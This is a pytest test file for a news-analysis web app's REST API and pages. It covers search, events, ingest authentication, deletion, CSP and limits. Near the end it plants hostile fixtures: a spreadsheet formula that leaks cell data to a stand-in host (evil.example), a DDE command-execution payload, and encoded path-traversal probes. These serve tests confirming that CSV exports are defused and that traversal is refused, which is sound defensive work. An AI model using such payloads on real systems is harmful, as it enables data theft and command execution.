"""The REST API and the JSON twins over real HTTP, on a store holding the two samples."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from tests.web.conftest import TOKEN, LiveServer


def test_search_finds_the_coup_article(api) -> None:
    body = api.get("/api/v1/search", params={"q": "coup"}).json()
    assert body["total"] == 1
    assert body["hits"][0]["title"] == "Will Kazakhstan become a new hot spot?"


def test_search_takes_phrases_and_boolean_operators(api) -> None:
    assert api.get("/api/v1/search", params={"q": '"hot spot" AND Kazakhstan'}).json()["total"] == 1
    assert api.get("/api/v1/search", params={"q": "coup NOT Kazakhstan"}).json()["total"] == 0
    assert api.get("/api/v1/search", params={"q": "coup OR hunter"}).json()["total"] == 2


def test_search_facets_count_matching_articles(api) -> None:
    facets = api.get("/api/v1/search", params={"q": "Kazakhstan"}).json()["facets"]
    assert {"value": "KZ", "count": 2} in facets["country"]
    assert any(row["value"] == "Vladimir Prokhvatilov" for row in facets["speaker"])
    assert {"outlet", "language", "entity", "event_type", "month"} <= set(facets)


def test_speaker_filter_narrows_the_results(api) -> None:
    body = api.get("/api/v1/search", params={"speaker": "Vladimir Prokhvatilov"}).json()
    assert [h["title"] for h in body["hits"]] == ["Will Kazakhstan become a new hot spot?"]


def test_search_pages(api) -> None:
    first = api.get("/api/v1/search", params={"size": 1, "page": 1}).json()
    second = api.get("/api/v1/search", params={"size": 1, "page": 2}).json()
    assert first["total"] == 2 and first["pages"] == 2
    assert first["hits"][0]["id"] != second["hits"][0]["id"]


def test_a_query_that_does_not_parse_is_searched_as_words(api) -> None:
    body = api.get("/api/v1/search", params={"q": '"coup'}).json()
    assert body["total"] == 1 and "query_note" in body


def test_article_has_quotes_with_speakers_and_offsets(api) -> None:
    hit = api.get("/api/v1/search", params={"q": "coup"}).json()["hits"][0]
    article = api.get(f"/api/v1/articles/{hit['id']}").json()
    quotes = [q for q in article["quotes"] if (q["speaker"] or {}).get("name") == "Vladimir Prokhvatilov"]
    assert quotes
    assert all(article["text"][q["start"]:q["end"]] == q["text"] for q in quotes)


def test_page_json_twin_equals_the_api(api) -> None:
    assert api.get("/search.json", params={"q": "coup"}).json() == api.get("/api/v1/search", params={"q": "coup"}).json()
    assert api.get("/search", params={"q": "coup", "format": "json"}).json()["total"] == 1


def test_country_brief_has_timeline_and_events_by_type(api) -> None:
    body = api.get("/api/v1/countries/KZ").json()
    assert body["name"] == "Kazakhstan" and body["articles"] == 2
    assert "bars" in body["timeline"] and body["events_by_type"]


def test_a_quiet_latest_week_points_to_the_latest_week_with_counted_happenings(api) -> None:
    # the samples: the 2022 page's copy falls in 2022-W21, the January events it tells in 2022-W01
    page = api.get("/countries/KZ").text
    assert "Latest week 2022-W21" in page and "The latest week with counted happenings is 2022-W01" in page


def test_voice_lists_roles_outlets_and_quotes(api) -> None:
    body = api.get("/api/v1/voices/Vladimir Prokhvatilov").json()
    assert "military analyst at the Russian Academy of Military Sciences" in body["roles"]
    assert body["quotes"] and body["outlets"][0]["value"] == "Eurasian Star"


def test_voice_shows_quotes_over_time_and_whom_they_accuse(api) -> None:
    body = api.get("/api/v1/voices/Vladimir Prokhvatilov").json()
    assert sum(m["quotes"] for m in body["quotes_by_month"]) == body["quotes_total"]
    assert "the West" in [s["target"] for s in body["stances"]["against"]]


def test_events_carry_their_evidence_sentence(api) -> None:
    body = api.get("/api/v1/events", params={"type": "PROTEST", "country": "KZ"}).json()
    assert body["total"] > 0
    for event in body["events"]:
        sentence = event["sentence"]["text"]
        trigger = event["trigger"]
        assert sentence[trigger["start"] - event["sentence"]["start"]:trigger["end"] - event["sentence"]["start"]] == trigger["text"]


def test_an_asserted_event_the_signal_does_not_count_is_listed_as_unsure(api) -> None:
    events = api.get("/api/v1/events", params={"country": "KZ", "size": 200}).json()["events"]
    unsure = [e for e in events if not e["counted"] and not e["status"]]
    assert unsure and all(e["confidence"] is not None for e in unsure)
    page = api.get("/events", params={"type": unsure[0]["type"], "country": "KZ"}).text
    assert '<span class="flags">unsure</span>' in page


def test_search_exports_csv_and_jsonl(api) -> None:
    csv_text = api.get("/search", params={"q": "coup", "format": "csv"}).text
    assert csv_text.splitlines()[0].startswith("id,title")
    assert len(api.get("/events", params={"format": "jsonl"}).text.splitlines()) > 10


def test_errors_are_json_with_a_message(api) -> None:
    response = api.get("/api/v1/articles/ffffffffffffffff")
    assert response.status_code == 404
    assert "no article" in response.json()["error"]["message"]
    assert api.get("/api/v1/search", params={"page": 0}).json()["error"]["status"] == 422


def test_openapi_describes_the_api(api) -> None:
    schema = api.get("/openapi.json").json()
    assert {"/api/v1/search", "/api/v1/articles/{article_id}", "/api/v1/countries/{code}", "/api/v1/events",
            "/api/v1/ingest"} <= set(schema["paths"])


def test_pages_send_a_strict_content_security_policy(api) -> None:
    csp = api.get("/search").headers["content-security-policy"]
    assert "default-src 'self'" in csp and "script-src 'self'" in csp and "unsafe-inline" not in csp


def test_ingest_without_the_token_is_refused(api) -> None:
    response = api.post("/api/v1/ingest", data={"text": "Some page text long enough to be an article body here."})
    assert response.status_code == 401


def test_ingest_with_the_token_reports_each_input(api) -> None:
    text = "Protesters gathered in Almaty on Monday, the police said. " * 3
    response = api.post("/api/v1/ingest", data={"text": text, "kind": "clean_text"},
                        headers={"Authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 200
    assert response.json()["results"][0]["status"] in ("stored", "duplicate")


def _finished_job(api, url: str) -> dict:
    import time

    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        job = api.get(url).json()
        if job["state"] in ("done", "failed"):
            return job
        time.sleep(0.2)
    raise AssertionError(f"ingest job {url} did not finish: {job}")


def test_ingest_job_reports_progress_then_each_input(api) -> None:
    text = "Officials in Aktau said on Tuesday that the fuel price would fall, the ministry said. " * 3
    response = api.post("/api/v1/ingest/jobs", data={"text": text, "kind": "clean_text"},
                        headers={"Authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 202
    queued = response.json()
    assert queued["job"]["total"] == 1 and queued["job"]["state"] in ("queued", "running", "done")
    job = _finished_job(api, queued["url"])
    assert job["state"] == "done" and job["done"] == 1
    assert job["results"][0]["status"] in ("stored", "duplicate") and job["summary"]["inputs"] == 1


def test_ingest_job_needs_the_token(api) -> None:
    assert api.post("/api/v1/ingest/jobs", data={"text": "x" * 100}).status_code == 401


def test_unknown_ingest_job_is_a_json_404(api) -> None:
    response = api.get("/api/v1/ingest/jobs/0123456789abcdef")
    assert response.status_code == 404 and "no ingest job" in response.json()["error"]["message"]


def test_ingest_form_redirects_to_the_job_page(api) -> None:
    text = "The governor of Mangystau said on Friday that the protests in Zhanaozen had ended. " * 3
    response = api.post("/ingest", data={"text": text, "kind": "clean_text", "token": TOKEN}, follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"].startswith("/ingest/jobs/")
    job = _finished_job(api, response.headers["location"] + ".json")
    page = api.get(response.headers["location"]).text
    assert job["state"] == "done" and 'id="ingest-summary"' in page and "http-equiv" not in page


def test_uploads_over_the_limit_are_refused(api, live_server) -> None:
    from hotspot import settings

    big = b"x" * (int(settings.get("max_input_bytes")) + 10)
    response = api.post("/api/v1/ingest", files={"files": ("big.txt", big)}, headers={"Authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 413


def test_static_files_do_not_leave_their_directory(api) -> None:
    assert api.get("/static/..%2fapp.py").status_code == 404
    assert api.get("/static/%2e%2e/app.py").status_code == 404


def test_writes_are_disabled_without_a_token(tmp_path) -> None:
    from hotspot.web import create_app

    with LiveServer(create_app(f"sqlite:///{tmp_path / 'h.db'}")) as server:
        response = httpx.post(f"{server.url}/api/v1/ingest", data={"text": "x" * 100}, timeout=30)
    assert response.status_code == 403 and "disabled" in response.json()["error"]["message"]


def test_a_slow_query_gets_a_narrow_it_down_message(live_server) -> None:
    from hotspot.web import create_app

    app = create_app(live_server.app.state.store.url, query_time_limit=1e-9)
    with LiveServer(app) as server:
        # (search facets come from an in-memory index now, too quick to time out on two articles)
        response = httpx.get(f"{server.url}/api/v1/events", params={"country": "KZ"}, timeout=30)
    assert response.status_code == 400
    assert "narrow it down" in response.json()["error"]["message"]


def test_country_without_dated_events_renders_in_both_modes(api) -> None:
    for mode in ("normalised", "raw"):
        response = api.get("/countries/CN", params={"mode": mode})
        assert response.status_code == 200, response.text
        assert "China" in response.text


def test_article_names_its_story_and_the_other_outlets_in_it(api) -> None:
    hits = api.get("/api/v1/search", params={"q": "Kazakhstan"}).json()["hits"]
    for hit in hits:  # the two samples are different stories: each is its own, with no other member
        story = api.get(f"/api/v1/articles/{hit['id']}").json()["story"]
        assert story == {"id": hit["id"], "articles": []}
    assert api.get(f"/articles/{hits[0]['id']}.json").json()["story"]["id"] == hits[0]["id"]


def test_delete_needs_the_token_and_removes_the_article(tmp_path) -> None:
    from hotspot.web import create_app

    text = "Officials in Atyrau said on Monday that the strike at the oil field had ended, the union said. " * 2
    with LiveServer(create_app(f"sqlite:///{tmp_path / 'h.db'}", token=TOKEN)) as server:
        auth = {"Authorization": f"Bearer {TOKEN}"}
        stored = httpx.post(f"{server.url}/api/v1/ingest", data={"text": text, "kind": "clean_text"}, headers=auth,
                            timeout=120).json()["results"][0]
        article = f"{server.url}/api/v1/articles/{stored['article_id']}"
        assert httpx.delete(article, timeout=30).status_code == 401
        assert httpx.delete(article, headers=auth, timeout=30).json() == {"deleted": stored["article_id"]}
        assert httpx.get(article, timeout=30).status_code == 404
        assert httpx.delete(article, headers=auth, timeout=30).status_code == 404
        assert httpx.get(f"{server.url}/api/v1/search", params={"q": "Atyrau"}, timeout=30).json()["total"] == 0


def test_delete_takes_a_whole_id_not_a_prefix(api) -> None:
    response = api.delete("/api/v1/articles/abcd", headers={"Authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 404 and "whole id" in response.json()["error"]["message"]


# -- hostile exports and filters, on a store made by hand (no model) ------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def hand_made_server(tmp_path_factory):
    from hotspot.records import Article
    from hotspot.store import Store
    from hotspot.web import create_app

    db = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'h.db'}"
    store = Store(db)
    store.save(Article(id=f"{9:016x}", source="/9.html", text="Gas prices rose in Aktau on Monday.", title=FORMULA_TITLE,
                       site_name="@SUM(1+1)*cmd|' /C calc'!A0", content_hash="9" * 64, text_hash="8" * 64))
    store.close()
    with LiveServer(create_app(db)) as server:
        yield server


def test_search_csv_export_defuses_spreadsheet_formulas(hand_made_server) -> None:
    response = httpx.get(f"{hand_made_server.url}/search", params={"q": "Aktau", "format": "csv"}, timeout=30)
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["site_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("name", ["entity", "speaker", "event_type", "country", "outlet", "language"])
def test_a_filter_repeated_a_thousand_times_is_refused_with_h081(hand_made_server, name: str) -> None:
    params = [(name, f"value {n}") for n in range(999)]
    response = httpx.get(f"{hand_made_server.url}/api/v1/search", params=params, timeout=30)
    assert response.status_code == 400
    assert response.json()["error"]["message"] == f"[H081] too many values for {name}: 999 (at most 50)"


def test_too_many_filter_values_on_the_search_page_is_an_error_page(hand_made_server) -> None:
    params = [("entity", f"value {n}") for n in range(51)]
    response = httpx.get(f"{hand_made_server.url}/search", params=params, timeout=30)
    assert response.status_code == 400 and "[H081]" in response.text and "<html" in response.text


def test_too_many_filter_values_in_an_export_is_refused(hand_made_server) -> None:
    params = [("speaker", f"value {n}") for n in range(51)] + [("format", "csv")]
    response = httpx.get(f"{hand_made_server.url}/search", params=params, timeout=30)
    assert response.status_code == 400 and "[H081]" in response.text


def test_every_filter_at_its_bound_at_once_is_answered(hand_made_server) -> None:
    params = [(name, f"value {n}") for name in ("entity", "speaker", "event_type", "country", "outlet", "language")
              for n in range(50)]
    response = httpx.get(f"{hand_made_server.url}/api/v1/search", params=[("q", "Aktau"), *params], timeout=30)
    assert response.status_code == 200 and response.json()["total"] == 0
